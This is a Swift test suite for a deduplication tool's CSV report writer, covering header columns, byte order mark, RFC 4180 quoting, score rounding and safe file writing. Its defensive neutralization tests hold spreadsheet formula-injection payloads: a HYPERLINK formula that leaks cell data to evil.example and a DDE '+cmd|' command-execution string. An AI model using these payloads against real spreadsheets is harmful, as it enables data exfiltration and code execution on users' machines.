import Foundation
import Matching
import Resolution
import Testing
@testable import Reporting
import Support
import TestSupport

@Suite("CSV report")
struct CSVReportTests {
    /// The lines of a report without the byte order mark, split on CRLF.
    func lines(_ merges: [SuggestedMerge]) -> [String] {
        CSVReport.render(merges, byteOrderMark: false).components(separatedBy: "\r\n")
    }

    @Test("the header is exactly the documented columns")
    func header() {
        #expect(lines([]) == ["cluster_id,customer_id,role,victor_id,confidence,match_weight,first_name,last_name,phones,emails,cluster_key", ""])
    }

    @Test("by default the text starts with a UTF-8 byte order mark for Excel")
    func byteOrderMark() {
        let bytes = Array(CSVReport.render([]).utf8)
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        #expect(String(decoding: bytes.dropFirst(3), as: UTF8.self).hasPrefix("cluster_id,"))
    }

    @Test("one row per member, victor first, with rounded scores and joined phones")
    func rows() throws {
        let merge = try threeMemberMerge()
        #expect(lines([merge]) == [
            CSVReport.header,
            "7,v,victor,v,0.9877,12.35,太郎,田中,'+819011112222,,",
            "7,x,victim,v,0.9877,12.35,,タナカ,,Taro@Example.com,",
            "7,y,victim,v,0.9877,12.35,,Tanaka,'+819033334444,,",
            "",
        ])
    }

    @Test("cells with commas, quotes, newlines or semicolons are quoted per RFC 4180", arguments: [
        ("Tanaka, Taro", "\"Tanaka, Taro\""),
        ("Taro \"Tom\"", "\"Taro \"\"Tom\"\"\""),
        ("line\nbreak", "\"line\nbreak\""),
        ("cr\rhere", "\"cr\rhere\""),
        ("a;b", "\"a;b\""),
        ("plain", "plain"),
    ])
    func quoting(raw: String, cell: String) {
        #expect(CSVCell.untrusted(raw) == cell)
    }

    @Test("formula-like customer data is neutralized with a leading apostrophe", arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-1+1", "'-1+1"),
        ("\t=1+1", "\"'\t=1+1\""),
        ("\r=1+1", "\"'\r=1+1\""),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("＋81", "'＋81"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("+819012345678", "'+819012345678"),
        ("Tanaka-Smith", "Tanaka-Smith"),
        ("taro@example.com", "taro@example.com"),
    ])
    func neutralized(raw: String, cell: String) {
        #expect(CSVCell.untrusted(raw) == cell)
    }

    @Test("a malicious name reaches the row neutralized, and the row keeps its columns")
    func maliciousRow() throws {
        let merge = try threeMemberMerge(lastName: "=HYPERLINK(\"http://evil\",\"x\")", firstName: "@SUM(1,2)")
        let victorRow = lines([merge])[1]
        #expect(victorRow == "7,v,victor,v,0.9877,12.35,\"'@SUM(1,2)\",\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\",'+819011112222,,")
    }

    @Test("negative match weights are numbers, not neutralized")
    func negativeWeight() throws {
        var merge = try threeMemberMerge()
        merge.matchWeight = -3.254
        #expect(lines([merge])[1].hasPrefix("7,v,victor,v,0.9877,-3.25,"))
    }

    @Test("Japanese text comes through intact")
    func japanese() throws {
        let merge = try threeMemberMerge(lastName: "髙橋", firstName: "ｱｷﾗ　さん")
        #expect(lines([merge])[1] == "7,v,victor,v,0.9877,12.35,ｱｷﾗ　さん,髙橋,'+819011112222,,")
    }

    @Test("scores are rounded half away from zero", arguments: [
        (0.98765, 4, "0.9877"), (0.5, 0, "1"), (-2.5, 0, "-3"), (-0.001, 2, "0.00"), (1, 4, "1.0000"),
        (12.345, 2, "12.35"), (Double.nan, 2, "NaN"), (-Double.infinity, 2, "-Infinity"), (1234567.891, 2, "1234567.89"),
    ])
    func decimals(value: Double, digits: Int, text: String) {
        #expect(NumberText.fixed(value, digits: digits) == text)
    }

    @Test("write produces the rendered text and leaves no partial file")
    func writeFile() throws {
        let merge = try threeMemberMerge()
        let folder = try TemporaryFolder("tcdedupe-report")
        let path = folder.file("report.csv")
        try CSVReport.write([merge, merge], to: path)
        // Compared as bytes: reading back as a String would swallow the byte order mark.
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == Data(CSVReport.render([merge, merge]).utf8))
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path) == ["report.csv"])
    }

    @Test("a missing folder is reported with the path")
    func missingFolder() {
        let path = temporaryPath("no-such-folder") + "/report.csv"
        #expect(throws: ReportError.self) { try CSVReport.write([], to: path) }
        do {
            try CSVReport.write([], to: path)
        } catch {
            #expect(error.code == .cannotCreate)
            #expect(error.path == path)
        }
    }

    @Test("a writer dropped before finishing leaves nothing behind")
    func abandoned() throws {
        let folder = try TemporaryFolder("tcdedupe-report")
        let path = folder.file("abandoned.csv")
        do {
            let writer = try CSVReportWriter(path: path)
            try writer.append(try threeMemberMerge())
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).isEmpty)
    }
}
